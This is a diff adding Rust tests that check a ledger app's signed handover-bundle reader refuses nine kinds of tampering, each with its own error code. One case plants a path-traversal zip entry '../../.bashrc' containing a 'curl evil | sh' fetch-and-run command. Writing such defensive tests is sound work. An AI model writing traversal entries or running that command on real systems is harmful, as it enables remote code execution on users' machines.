@@ -176,6 +176,105 @@ fn an_unsigned_file_is_refused_before_anything_is_read() {
     assert_eq!(b.take_overs().unwrap().len(), 0);
 }
 
+/// The bundle's entries, changed by `change`, packed and sealed again with the passphrase.
+fn repacked(
+    good: &std::path::Path,
+    out: &std::path::Path,
+    change: impl Fn(&mut Vec<(String, Vec<u8>)>),
+) {
+    let mut zip = zip::ZipArchive::new(Cursor::new(unseal(good))).unwrap();
+    let mut entries = Vec::new();
+    for i in 0..zip.len() {
+        let mut entry = zip.by_index(i).unwrap();
+        let mut data = Vec::new();
+        entry.read_to_end(&mut data).unwrap();
+        entries.push((entry.name().unwrap().into_owned(), data));
+    }
+    change(&mut entries);
+    let mut packed = zip::ZipWriter::new(Cursor::new(Vec::new()));
+    for (name, data) in &entries {
+        packed
+            .start_file(name.as_str(), zip::write::SimpleFileOptions::default())
+            .unwrap();
+        packed.write_all(data).unwrap();
+    }
+    super::handover::seal(out, &packed.finish().unwrap().into_inner());
+}
+
+fn edit(entries: &mut [(String, Vec<u8>)], name: &str, from: &str, to: &str) {
+    let (_, data) = entries.iter_mut().find(|(n, _)| n == name).unwrap();
+    let text = String::from_utf8(data.clone()).unwrap();
+    assert!(text.contains(from), "{name} holds {from}");
+    *data = text.replacen(from, to, 1).into_bytes();
+}
+
+/// What the reader says of a bundle changed in each way an attacker or a damaged disk would:
+/// only the file as written opens, and each change is refused with the code that names it.
+#[test]
+fn each_change_to_a_handover_file_is_refused_with_its_own_code() {
+    type Change = fn(&mut Vec<(String, Vec<u8>)>);
+    let changes: [(&str, Change); 9] = [
+        ("as written", |_| {}),
+        ("the signature taken out", |e| {
+            e.retain(|(n, _)| n != "signature.json")
+        }),
+        ("a customer's name changed in its table", |e| {
+            edit(e, "tables/cards.json", "東邦商事", "東邦商事（偽）")
+        }),
+        ("the manifest edited after it was signed", |e| {
+            edit(e, "manifest.json", "\"rows\"", "\"rows\" ")
+        }),
+        ("an entry the manifest does not list", |e| {
+            e.push(("tables/extra.json".into(), b"[]".to_vec()))
+        }),
+        ("an entry that climbs out of the bundle", |e| {
+            e.push(("../../.bashrc".into(), b"curl evil | sh".to_vec()))
+        }),
+        ("a listed table taken out", |e| {
+            e.retain(|(n, _)| n != "tables/cards.json")
+        }),
+        ("the manifest taken out", |e| {
+            e.retain(|(n, _)| n != "manifest.json")
+        }),
+        ("the signature made of noise", |e| {
+            let (_, data) = e.iter_mut().find(|(n, _)| n == "signature.json").unwrap();
+            *data = b"{\"noise\": true}".to_vec();
+        }),
+    ];
+    let mut a = ledger();
+    let id = a
+        .create_card(&organisation("東邦商事", "とうほうしょうじ"))
+        .unwrap()
+        .id;
+    let dir = tempfile::tempdir().unwrap();
+    let good = dir.path().join("good.daicho-handover");
+    a.handover_export(&selection(&id, Some(PASS), None), &good, Existing::Refuse)
+        .unwrap();
+    let b = ledger();
+    let mut table = String::new();
+    for (n, (what, change)) in changes.into_iter().enumerate() {
+        let path = dir.path().join(format!("changed-{n}.daicho-handover"));
+        repacked(&good, &path, change);
+        let read = match b.take_over_preview(&path, Some(PASS)) {
+            Ok(preview) => format!("opens, {} card(s)", preview.cards.len()),
+            Err(e) => e.code().to_owned(),
+        };
+        table.push_str(&format!("{what}: {read}\n"));
+    }
+    expect_test::expect![[r#"
+        as written: opens, 1 card(s)
+        the signature taken out: handover.unsigned
+        a customer's name changed in its table: handover.tampered
+        the manifest edited after it was signed: handover.tampered
+        an entry the manifest does not list: handover.tampered
+        an entry that climbs out of the bundle: handover.tampered
+        a listed table taken out: handover.corrupt
+        the manifest taken out: handover.corrupt
+        the signature made of noise: handover.tampered
+    "#]]
+    .assert_eq(&table);
+}
+
 proptest::proptest! {
     #![proptest_config(proptest::prelude::ProptestConfig::with_cases(48))]
 
